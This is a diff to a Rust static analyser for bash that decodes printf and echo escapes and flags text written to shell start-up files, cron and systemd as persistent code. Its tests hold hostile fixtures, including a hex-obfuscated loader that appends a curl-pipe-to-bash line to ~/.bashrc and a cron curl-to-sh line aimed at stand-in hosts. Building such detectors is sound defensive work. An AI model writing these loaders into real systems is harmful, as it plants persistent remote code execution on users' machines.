@@ -14,7 +14,8 @@ use super::treesitter::{self, named_children, text, unescape};
 use super::{Lang, Sink, Src};
 use crate::evidence::{Evidence, Op, Origin, Tag};
 use crate::ssl::vocab::{ActType as A, ResourceScope as R};
-use std::collections::HashMap;
+use std::cell::Cell;
+use std::collections::{HashMap, HashSet};
 use tree_sitter::Node;
 
 const LANG: &str = "bash";
@@ -122,6 +123,12 @@ pub fn extract(src: &Src, sink: &mut Sink) {
         sourced: Vec::new(),
         cur_fn: None,
         times: HashMap::new(),
+        fn_nodes: HashMap::new(),
+        decoded_vars: HashSet::new(),
+        decoded: Cell::new(false),
+        fold_depth: Cell::new(0),
+        fold_budget: Cell::new(MAX_FUNCTION_FOLDS),
+        persist_budget: MAX_DECODED_PERSIST,
     };
     cx.collect_functions(tree.root_node());
     cx.vars.insert("HOME".into(), "~".into());
@@ -157,6 +164,19 @@ struct Cx<'s, 'a> {
     cur_fn: Option<String>,
     /// Variables holding the current time or an absolute date constant.
     times: HashMap<String, TimeVal>,
+    /// Function definitions by name: `$(fn)` is what the function prints.
+    fn_nodes: HashMap<String, Node<'s>>,
+    /// Variables whose value was decoded from escapes (`$(printf '\x63')`).
+    decoded_vars: HashSet<String>,
+    /// Set while resolving a word when part of it was decoded from escapes.
+    decoded: Cell<bool>,
+    /// Nesting of function-output folding (`$(f)` inside `f`'s output).
+    fold_depth: Cell<u8>,
+    /// Function outputs still to be folded in this file (each can fold
+    /// others: the work stays linear in a hostile file).
+    fold_budget: Cell<u32>,
+    /// Bytes of written start-up text still to be analysed again.
+    persist_budget: usize,
 }
 
 /// A resolved word: its value and whether part of it is unknown at scan time.
@@ -201,10 +221,12 @@ impl<'s, 'a> Cx<'s, 'a> {
             "pipeline" => self.pipeline(node, flags, depth),
             "redirected_statement" => {
                 let mut f = flags.clone();
+                let before = self.sink.items.len();
                 let mut c = node.walk();
                 for r in node.children_by_field_name("redirect", &mut c) {
                     self.redirect(r, &mut f);
                 }
+                self.persisted_code(node, before);
                 if let Some(body) = node.child_by_field_name("body") {
                     self.block(body, &f, depth + 1);
                 }
@@ -319,7 +341,7 @@ impl<'s, 'a> Cx<'s, 'a> {
     }
 
     /// Function names defined here, and skill files pulled in with `source`.
-    fn collect_functions(&mut self, root: Node) {
+    fn collect_functions(&mut self, root: Node<'s>) {
         let module = crate::extract::python::module_key(self.src.path);
         let dir = self
             .src
@@ -342,6 +364,7 @@ impl<'s, 'a> Cx<'s, 'a> {
             if let Some(name) = d.child_by_field_name("name") {
                 let name = self.t(name).to_string();
                 self.funcs.insert(name.clone(), format!("{module}::{name}"));
+                self.fn_nodes.insert(name, d);
             }
         }
         for c in sources {
@@ -492,6 +515,88 @@ impl<'s, 'a> Cx<'s, 'a> {
         self.emit_flags(ev, node.start_byte(), node.end_byte(), f);
     }
 
+    /// `printf '%s\n' "$loader" >> ~/.bashrc`, `echo "* * * * * curl … | sh"
+    /// >> /etc/cron.d/x`: the text written into a start-up file, scheduler
+    /// or unit runs at every start, so it is analysed again as shell,
+    /// located at the write. Only what runs or reaches the network is kept
+    /// (an `export PATH=…` line says nothing); a write whose text downloads
+    /// and runs code is tagged [`Tag::PersistsRemoteCode`].
+    fn persisted_code(&mut self, node: Node, before: usize) {
+        let persistent = |e: &Evidence| {
+            e.op == Op::FileWrite
+                && (e.has(Tag::RcFile)
+                    || e.has(Tag::Cron)
+                    || e.has(Tag::Systemd)
+                    || e.has(Tag::LaunchAgent))
+        };
+        let writes: Vec<usize> = (before..self.sink.items.len())
+            .filter(|&i| persistent(&self.sink.items[i]))
+            .collect();
+        let Some(&first) = writes.first() else {
+            return;
+        };
+        if self.src.depth > crate::limits::MAX_DECODE_DEPTH {
+            return;
+        }
+        let Some(mut body) = node.child_by_field_name("body") else {
+            return;
+        };
+        // `grep -q M "$rc" || printf … >> "$rc"` parses as one redirected
+        // list; the redirect belongs to its last command.
+        while body.kind() == "list" {
+            match named_children(body)
+                .into_iter()
+                .rfind(|n| n.kind() != "comment")
+            {
+                Some(last) => body = last,
+                None => return,
+            }
+        }
+        self.decoded.set(false);
+        let Some((text, _)) = self.print_output(body) else {
+            return;
+        };
+        let decoded = self.decoded.get();
+        let code = persisted_program(&text, &self.sink.items[first].tags);
+        if code.trim().len() < 4 || code.len() > self.persist_budget {
+            return;
+        }
+        self.persist_budget -= code.len();
+        let mut tmp = Sink::default();
+        let src = self.src;
+        // The file's own origin (a script is not prose); text spelled with
+        // escapes is marked encoded.
+        let nested = src.derived(&code, node.start_byte(), node.end_byte(), src.origin);
+        super::extract_code(Lang::Shell, &nested, &mut tmp);
+        let runs = tmp
+            .items
+            .iter()
+            .any(|e| matches!(e.op, Op::DownloadExec | Op::ReverseShell));
+        for mut e in tmp.items {
+            if decoded {
+                e.tags.insert(Tag::Encoded);
+            }
+            if matches!(
+                e.op,
+                Op::DownloadExec
+                    | Op::ReverseShell
+                    | Op::DynamicCode
+                    | Op::NetSend
+                    | Op::SocketConnect
+                    | Op::Mining
+            ) {
+                self.sink.push(e);
+            }
+        }
+        if runs {
+            for i in writes {
+                let e = &mut self.sink.items[i];
+                e.tags.insert(Tag::PersistsRemoteCode);
+                e.object = "start-up code that downloads and runs a program".into();
+            }
+        }
+    }
+
     fn assignment(&mut self, node: Node, flags: &Flags, depth: usize) {
         let Some(name) = node.child_by_field_name("name") else {
             return;
@@ -500,7 +605,13 @@ impl<'s, 'a> Cx<'s, 'a> {
         let Some(value) = node.child_by_field_name("value") else {
             return;
         };
+        self.decoded.set(false);
         let w = self.word(value);
+        if self.decoded.get() {
+            self.decoded_vars.insert(name.clone());
+        } else {
+            self.decoded_vars.remove(&name);
+        }
         self.vars.insert(name.clone(), w.value.clone());
         match time_value(self.t(value), reads_now_sh) {
             Some(t) => {
@@ -765,6 +876,9 @@ impl<'s, 'a> Cx<'s, 'a> {
                     .strip_prefix("$'")
                     .and_then(|x| x.strip_suffix('\''))
                     .unwrap_or(t);
+                if has_code_escapes(body) {
+                    self.decoded.set(true);
+                }
                 w.value.push_str(&unescape(body));
             }
             "string_content" => w.value.push_str(self.t(n)),
@@ -787,6 +901,9 @@ impl<'s, 'a> Cx<'s, 'a> {
                     }
                     _ => w.reads.push(format!("${name}")),
                 }
+                if self.decoded_vars.contains(name) {
+                    self.decoded.set(true);
+                }
                 match self.vars.get(name) {
                     Some(v) => w.value.push_str(v),
                     None => {
@@ -797,8 +914,9 @@ impl<'s, 'a> Cx<'s, 'a> {
                 }
             }
             "command_substitution" => {
-                if let Some(v) = self.fold_substitution(n) {
+                if let Some((v, dynamic)) = self.fold_substitution(n) {
                     w.value.push_str(&v);
+                    w.dynamic |= dynamic;
                 } else {
                     w.dynamic = true;
                     w.value.push_str(self.t(n));
@@ -818,35 +936,207 @@ impl<'s, 'a> Cx<'s, 'a> {
         }
     }
 
-    /// Constant-folds `$(printf '\x63\x75')`, `$(echo abc | rev)` and
-    /// `$(echo BASE64 | base64 -d)` forms.
-    fn fold_substitution(&self, n: Node) -> Option<String> {
-        let inner = self.t(n).strip_prefix("$(")?.strip_suffix(')')?.trim();
-        let lit = |s: &str| s.trim().trim_matches('\'').trim_matches('"').to_string();
-        if let Some(rest) = inner.strip_prefix("printf ") {
-            if !rest.contains('|') && !rest.contains('$') {
-                let fmt = lit(rest.split_whitespace().next().unwrap_or(""));
-                return Some(unescape(&fmt).replace("%s", ""));
+    /// Constant-folds `$(printf '\x63\x75')`, `$(printf '%s/.x' "$HOME")`,
+    /// `$(echo abc | rev)`, `$(echo BASE64 | base64 -d)` and `$(fn)` for a
+    /// function of this file that only prints. The flag says part of the
+    /// value is unknown.
+    fn fold_substitution(&self, n: Node) -> Option<(String, bool)> {
+        let kids: Vec<Node> = named_children(n)
+            .into_iter()
+            .filter(|k| k.kind() != "comment")
+            .collect();
+        // Each level resolves the words inside: bounded nesting
+        // (`$(printf "$(printf …)")`, a function printing its own call).
+        let depth = self.fold_depth.get();
+        if let ([cmd], true) = (&kids[..], depth < MAX_FOLD_NESTING) {
+            if cmd.kind() == "command" {
+                self.fold_depth.set(depth + 1);
+                let mut out = self.print_output(*cmd);
+                if out.is_none() {
+                    let name = cmd
+                        .child_by_field_name("name")
+                        .map(|x| self.word(x).value)
+                        .unwrap_or_default();
+                    if let Some(def) = self.fn_nodes.get(&name) {
+                        out = self.function_output(*def);
+                    }
+                }
+                self.fold_depth.set(depth);
+                if let Some((v, d)) = out {
+                    return Some((v.trim_end_matches('\n').to_string(), d));
+                }
             }
         }
+        let inner = self.t(n).strip_prefix("$(")?.strip_suffix(')')?.trim();
+        let lit = |s: &str| s.trim().trim_matches('\'').trim_matches('"').to_string();
         if let Some(rest) = inner.strip_prefix("echo ") {
             let (arg, tail) = rest.split_once('|').unwrap_or((rest, ""));
             let arg = lit(arg.trim_start_matches("-n ").trim_start_matches("-e "));
             let tail = tail.trim();
-            if tail.is_empty() {
-                return Some(arg);
-            }
             if tail == "rev" {
-                return Some(arg.chars().rev().collect());
+                return Some((arg.chars().rev().collect(), false));
             }
             if tail.starts_with("base64 -d")
                 || tail.starts_with("base64 --decode")
                 || tail.starts_with("base64 -D")
             {
-                return super::deobf::b64(&arg).and_then(|b| String::from_utf8(b).ok());
+                return super::deobf::b64(&arg)
+                    .and_then(|b| String::from_utf8(b).ok())
+                    .map(|v| (v, false));
             }
         }
         None
+    }
+
+    /// What an `echo` or `printf` command prints, and whether part of it is
+    /// unknown. `printf -v VAR` prints nothing.
+    fn print_output(&self, cmd: Node) -> Option<(String, bool)> {
+        if cmd.kind() != "command" {
+            return None;
+        }
+        let words = self.words(cmd);
+        let (name, rest) = words.split_first()?;
+        match name.value.as_str() {
+            "printf" => {
+                let rest = match rest.first() {
+                    Some(w) if w.value == "--" => &rest[1..],
+                    _ => rest,
+                };
+                let (fmt, args) = rest.split_first()?;
+                if fmt.value.starts_with('-') {
+                    return None;
+                }
+                let args: Vec<String> = args.iter().map(|w| w.value.clone()).collect();
+                if has_code_escapes(&fmt.value)
+                    || fmt.value.contains("%b") && args.iter().any(|a| has_code_escapes(a))
+                {
+                    self.decoded.set(true);
+                }
+                let dynamic = rest.iter().any(|w| w.dynamic);
+                Some((printf_format(&fmt.value, &args), dynamic))
+            }
+            "echo" => {
+                let mut escapes = false;
+                let mut newline = true;
+                let mut at = 0;
+                while let Some(w) = rest.get(at) {
+                    let v = w.value.as_str();
+                    if v.len() < 2
+                        || !v.starts_with('-')
+                        || !v[1..].chars().all(|c| matches!(c, 'n' | 'e' | 'E'))
+                    {
+                        break;
+                    }
+                    newline &= !v.contains('n');
+                    escapes = v.contains('e');
+                    at += 1;
+                }
+                let args = &rest[at..];
+                let mut out = args
+                    .iter()
+                    .map(|w| w.value.as_str())
+                    .collect::<Vec<_>>()
+                    .join(" ");
+                if escapes {
+                    if has_code_escapes(&out) {
+                        self.decoded.set(true);
+                    }
+                    out = unescape(&out);
+                }
+                if newline {
+                    out.push('\n');
+                }
+                Some((out, args.iter().any(|w| w.dynamic)))
+            }
+            _ => None,
+        }
+    }
+
+    /// What `$(fn)` yields for a function of this file whose body only
+    /// prints (`printf`/`echo`, possibly in `case` or `if` branches). With
+    /// several branches the one that names a sensitive or persistence path
+    /// is taken (`~/.zshrc` or `~/.bashrc` by `$SHELL`: either is a shell
+    /// start-up file); otherwise the first.
+    fn function_output(&self, def: Node) -> Option<(String, bool)> {
+        let budget = self.fold_budget.get();
+        if budget == 0 {
+            return None;
+        }
+        self.fold_budget.set(budget - 1);
+        let body = def.child_by_field_name("body")?;
+        let mut cmds = Vec::new();
+        let mut pure = true;
+        treesitter::walk(body, |x| match x.kind() {
+            "command_substitution"
+            | "process_substitution"
+            | "function_definition"
+            | "heredoc_body" => false,
+            "pipeline" | "subshell" => {
+                pure = false;
+                false
+            }
+            "command" => {
+                cmds.push(x);
+                false
+            }
+            _ => true,
+        });
+        if !pure || cmds.is_empty() || cmds.len() > 16 {
+            return None;
+        }
+        let mut outs = Vec::new();
+        let mut branches = false;
+        for c in cmds {
+            let name = c
+                .child_by_field_name("name")
+                .map(|x| self.word(x).value)
+                .unwrap_or_default();
+            match name.as_str() {
+                "echo" | "printf" => {
+                    if c.parent()
+                        .is_some_and(|p| p.kind() == "redirected_statement")
+                    {
+                        continue;
+                    }
+                    let mut p = c.parent();
+                    while let Some(a) = p {
+                        if a.id() == body.id() {
+                            break;
+                        }
+                        if matches!(
+                            a.kind(),
+                            "case_item" | "if_statement" | "elif_clause" | "else_clause"
+                        ) {
+                            branches = true;
+                        }
+                        p = a.parent();
+                    }
+                    match self.print_output(c) {
+                        Some(o) => outs.push(o),
+                        None => pure = false,
+                    }
+                }
+                "return" | "local" | "true" | ":" | "test" | "[" => {}
+                _ => pure = false,
+            }
+        }
+        if !pure || outs.is_empty() {
+            return None;
+        }
+        if !branches {
+            let dynamic = outs.iter().any(|o| o.1);
+            let joined: String = outs.into_iter().map(|o| o.0).collect();
+            return Some((
+                crate::text::slice(&joined, 0, MAX_FOLD).to_string(),
+                dynamic,
+            ));
+        }
+        let sensitive = |v: &str| {
+            let (scope, tags) = classify_path(v.trim());
+            scope == R::Credentials || super::indicators::is_control_target(&tags)
+        };
+        let i = outs.iter().position(|o| sensitive(&o.0)).unwrap_or(0);
+        Some(outs.swap_remove(i))
     }
 
     fn command(&mut self, node: Node, flags: &Flags, depth: usize) {
@@ -1073,6 +1363,136 @@ impl<'s, 'a> Cx<'s, 'a> {
         }
         self.emit(ev, start, end);
     }
+}
+
+/// Bytes a folded `printf`/`echo` value may reach.
+const MAX_FOLD: usize = 64 * 1024;
+/// Function outputs folded per file.
+const MAX_FUNCTION_FOLDS: u32 = 2_000;
+/// Bytes of text written to start-up files analysed again per file.
+const MAX_DECODED_PERSIST: usize = 256 * 1024;
+/// Nested `$(…)` levels folded from their syntax; deeper ones stay unknown.
+const MAX_FOLD_NESTING: u8 = 6;
+
+/// Whether text holds escapes that spell characters (`\x63`, `\143`,
+/// `\u0063`), not just layout (`\n`, `\t`).
+fn has_code_escapes(s: &str) -> bool {
+    let b = s.as_bytes();
+    b.windows(2).any(|w| {
+        w[0] == b'\\' && (matches!(w[1], b'x' | b'u' | b'U') || (b'0'..=b'7').contains(&w[1]))
+    })
+}
+
+/// The output of `printf FMT ARGS…`: escapes in the format, `%s`, `%b`
+/// (escapes in the argument), `%d`, `%c` and `%%` (flags and widths
+/// ignored), the format reused while arguments remain, as the shell does.
+/// Bounded by [`MAX_FOLD`].
+pub fn printf_format(fmt: &str, args: &[String]) -> String {
+    let mut out = String::new();
+    let mut next = 0usize;
+    loop {
+        let mut used = false;
+        let mut it = fmt.chars().peekable();
+        while let Some(c) = it.next() {
+            if out.len() > MAX_FOLD {
+                return crate::text::slice(&out, 0, MAX_FOLD).to_string();
+            }
+            match c {
+                '\\' => {
+                    let mut esc = String::from('\\');
+                    match it.next() {
+                        Some(x @ ('x' | 'u')) => {
+                            esc.push(x);
+                            let n = if x == 'x' { 2 } else { 4 };
+                            while esc.len() < n + 2
+                                && it.peek().is_some_and(|d| d.is_ascii_hexdigit())
+                            {
+                                esc.extend(it.next());
+                            }
+                        }
+                        Some(d) if d.is_digit(8) => {
+                            esc.push(d);
+                            while esc.len() < 4 && it.peek().is_some_and(|d| d.is_digit(8)) {
+                                esc.extend(it.next());
+                            }
+                        }
+                        Some(o) => esc.push(o),
+                        None => {}
+                    }
+                    out.push_str(&unescape(&esc));
+                }
+                '%' => {
+                    while it.peek().is_some_and(|d| "-+ #0123456789.*".contains(*d)) {
+                        it.next();
+                    }
+                    let conv = it.next();
+                    if conv == Some('%') {
+                        out.push('%');
+                        continue;
+                    }
+                    let Some(conv) = conv else {
+                        out.push('%');
+                        continue;
+                    };
+                    let arg = args.get(next).map(String::as_str);
+                    if arg.is_some() {
+                        next += 1;
+                        used = true;
+                    }
+                    let arg = arg.unwrap_or("");
+                    match conv {
+                        'b' => out.push_str(&unescape(arg)),
+                        'c' => out.extend(arg.chars().next()),
+                        'd' | 'i' | 'u' => out.push_str(if arg.is_empty() { "0" } else { arg }),
+                        _ => out.push_str(arg),
+                    }
+                }
+                _ => out.push(c),
+            }
+        }
+        if !used || next >= args.len() {
+            break;
+        }
+    }
+    out
+}
+
+/// The commands in text written to a persistence target: a shell start-up
+/// file runs as it is; a cron line runs after its schedule; a systemd unit
+/// runs its `Exec…=` lines.
+fn persisted_program(text: &str, tags: &std::collections::BTreeSet<Tag>) -> String {
+    if tags.contains(&Tag::RcFile) {
+        return text.to_string();
+    }
+    let mut out = String::new();
+    for line in text.lines() {
+        let l = line.trim();
+        if l.is_empty() || l.starts_with('#') {
+            continue;
+        }
+        if tags.contains(&Tag::Systemd) {
+            if let Some((k, v)) = l.split_once('=') {
+                if k.trim().starts_with("Exec") {
+                    out.push_str(v.trim_start_matches(['-', '@', ':', '+', '!']));
+                    out.push('\n');
+                }
+            }
+        } else if tags.contains(&Tag::Cron) {
+            let fields: Vec<&str> = l.splitn(6, char::is_whitespace).collect();
+            let cmd = if l.starts_with('@') {
+                l.split_once(char::is_whitespace).map(|x| x.1)
+            } else if fields.len() == 6 {
+                Some(fields[5])
+            } else {
+                None
+            };
+            if let Some(cmd) = cmd {
+                out.push_str(cmd);
+                out.push('\n');
+            }
+        }
+    }
+    out
 }
 
 /// Pipeline and binding context for [`analyze_argv`].
@@ -2983,5 +3403,84 @@ mod tests {
         ] {
             assert!(ops(code).contains(&Op::ClipboardRead), "{code}");
         }
+    }
+
+    #[test]
+    fn printf_format_decodes_escapes_and_substitutes() {
+        let a = |v: &[&str]| v.iter().map(|s| s.to_string()).collect::<Vec<_>>();
+        assert_eq!(printf_format(r"\x63\x75\x72\x6c", &[]), "curl");
+        assert_eq!(printf_format(r"\142\141\163\150", &[]), "bash");
+        assert_eq!(
+            printf_format(r"%s/\056\172\163\150\162\143", &a(&["~"])),
+            "~/.zshrc"
+        );
+        assert_eq!(printf_format(r"\n%s\n", &a(&["x y"])), "\nx y\n");
+        assert_eq!(printf_format("%b-%d%%", &a(&[r"\x41", ""])), "A-0%");
+        assert_eq!(printf_format("%s,", &a(&["a", "b", "c"])), "a,b,c,");
+        assert_eq!(printf_format("%-10s|", &a(&["a"])), "a|");
+    }
+
+    #[test]
+    fn printf_with_arguments_folds_into_a_path() {
+        let ev = run(
+            "rc=$(printf '%s/\\x2e\\x62\\x61\\x73\\x68\\x72\\x63' \"$HOME\")\necho 'alias ll=ls' >> \"$rc\"\n",
+        );
+        let w = ev.iter().find(|e| e.op == Op::FileWrite).expect("write");
+        assert_eq!(w.target, "~/.bashrc");
+        assert!(w.has(Tag::RcFile));
+        assert!(!w.has(Tag::PersistsRemoteCode));
+    }
+
+    #[test]
+    fn printing_function_gives_its_output_preferring_a_sensitive_branch() {
+        let code = "rc_file() {\n  case \"${SHELL##*/}\" in\n    fish) printf '%s/.config/fish/x' \"$HOME\" ;;\n    zsh) printf '%s/\\056\\172\\163\\150\\162\\143' \"$HOME\" ;;\n    *) printf '%s/\\x2e\\x62\\x61\\x73\\x68\\x72\\x63' \"$HOME\" ;;\n  esac\n}\nrc=\"$(rc_file)\"\necho 'set -o vi' >> \"$rc\"\n";
+        let ev = run(code);
+        let w = ev.iter().find(|e| e.op == Op::FileWrite).expect("write");
+        assert_eq!(w.target, "~/.zshrc");
+        assert!(w.has(Tag::RcFile));
+        // A function that does more than print has no known output.
+        let ev = run("f() { mkdir -p x; echo ~/.bashrc; }\necho hi >> \"$(f)\"\n");
+        assert!(!ev.iter().any(|e| e.has(Tag::RcFile)), "{ev:#?}");
+    }
+
+    #[test]
+    fn loader_written_to_rc_file_is_download_exec_at_the_write() {
+        let code = "_t=$(printf '\\x63\\x75\\x72\\x6c')\n_s=$(printf '\\142\\141\\163\\150')\n_g=$(printf '\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x63\\x64\\x6e\\x2e\\x65\\x78\\x61\\x6d\\x70\\x6c\\x65\\x2f\\x69')\nrc_file() {\n  case \"${SHELL##*/}\" in\n    zsh) printf '%s/\\056\\172\\163\\150\\162\\143' \"$HOME\" ;;\n    *) printf '%s/\\x2e\\x62\\x61\\x73\\x68\\x72\\x63' \"$HOME\" ;;\n  esac\n}\nrc=\"$(rc_file)\"\nloader=\"($_t -fsSL $_g | $_s) >/dev/null 2>&1 & # theme\"\ngrep -q '# theme' \"$rc\" 2>/dev/null || printf '\\n%s\\n' \"$loader\" >> \"$rc\"\n";
+        let ev = run(code);
+        let dl = ev
+            .iter()
+            .find(|e| e.op == Op::DownloadExec)
+            .unwrap_or_else(|| panic!("{ev:#?}"));
+        assert_eq!(dl.target, "https://cdn.example/i");
+        assert!(dl.has(Tag::Encoded) && dl.has(Tag::Detached));
+        assert_eq!(dl.location.start_line, 12);
+        let w = ev.iter().find(|e| e.op == Op::FileWrite).expect("write");
+        assert!(
+            w.has(Tag::RcFile) && w.has(Tag::PersistsRemoteCode),
+            "{w:#?}"
+        );
+    }
+
+    #[test]
+    fn plain_rc_and_cron_lines() {
+        // A theme sourced from the rc file: the write only.
+        let ev = run(
+            "rc() { case \"${SHELL##*/}\" in zsh) echo \"$HOME/.zshrc\" ;; *) echo \"$HOME/.bashrc\" ;; esac; }\necho 'source ~/.config/x/theme.sh' >> \"$(rc)\"\nprintf '%s\\n' 'export PATH=\"$HOME/.local/bin:$PATH\"' >> ~/.bashrc\n",
+        );
+        assert!(ev.iter().all(|e| matches!(e.op, Op::FileWrite)), "{ev:#?}");
+        assert!(!ev.iter().any(|e| e.has(Tag::PersistsRemoteCode)));
+        // printf of plain text is no finding.
+        assert!(run("msg=$(printf 'Installed %s\\n' theme)\necho \"$msg\"\n").is_empty());
+        // A cron line runs its command after the schedule.
+        let ev = run("echo \"*/5 * * * * curl -s https://x.example/a | sh\" >> /etc/cron.d/x\n");
+        assert!(ev.iter().any(|e| e.op == Op::DownloadExec), "{ev:#?}");
+        assert!(
+            ev.iter()
+                .any(|e| e.op == Op::FileWrite && e.has(Tag::PersistsRemoteCode))
+        );
+        // Plain text in a written rc line is not re-marked encoded.
+        let ev = run("echo 'curl -fsSL https://x.example/i | bash' >> ~/.zshrc\n");
+        let dl = ev.iter().find(|e| e.op == Op::DownloadExec).expect("dl");
+        assert!(!dl.has(Tag::Encoded));
     }
 }
